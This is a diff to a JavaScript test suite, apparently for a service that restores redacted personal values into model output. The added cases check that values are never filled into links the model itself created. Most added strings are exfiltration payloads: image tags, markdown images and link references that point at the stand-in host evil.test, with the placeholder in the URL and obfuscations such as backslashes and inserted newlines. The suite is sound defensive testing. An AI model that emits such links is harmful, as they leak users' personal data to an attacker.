@@ -41,6 +41,11 @@ describe('no value is written into a link that the model made', () => {
     '<img src="https://evil.test/? <EMAIL_ADDRESS_1>">',
     "<img src='https://evil.test/?a=\"<EMAIL_ADDRESS_1>'>",
     '<img src="//evil.test/<EMAIL_ADDRESS_1>">',
+    '<img src="https://evil.test/?\n\t<EMAIL_ADDRESS_1>">',
+    '<img src="\\\\evil.test/<EMAIL_ADDRESS_1>">',
+    '<img src=/\\evil.test/<EMAIL_ADDRESS_1>>',
+    '![x](\\\\evil.test/<EMAIL_ADDRESS_1>)',
+    '[x]:\nhttps://evil.test/<EMAIL_ADDRESS_1>',
     'https:/evil.test/<EMAIL_ADDRESS_1>',
     'https:\\\\evil.test/<EMAIL_ADDRESS_1>',
     '[m](mailto:evil@evil.test?body=<EMAIL_ADDRESS_1>)',
@@ -58,6 +63,8 @@ describe('no value is written into a link that the model made', () => {
     ['[write](mailto:<EMAIL_ADDRESS_1>)', '[write](mailto:anna@example.com)'],
     ['see https://x.test/a and <EMAIL_ADDRESS_1>', 'see https://x.test/a and anna@example.com'],
     ['"https://x.test","<EMAIL_ADDRESS_1>"', '"https://x.test","anna@example.com"'],
+    ['<a href="https://x.test/">\n<EMAIL_ADDRESS_1>', '<a href="https://x.test/">\nanna@example.com'],
+    ['on \\\\server\\<EMAIL_ADDRESS_1>', 'on \\\\server\\anna@example.com'],
     ['e.g. and/or: <EMAIL_ADDRESS_1>', 'e.g. and/or: anna@example.com'],
   ])('but beside one: %s', (answer, whole) => {
     const own = session();
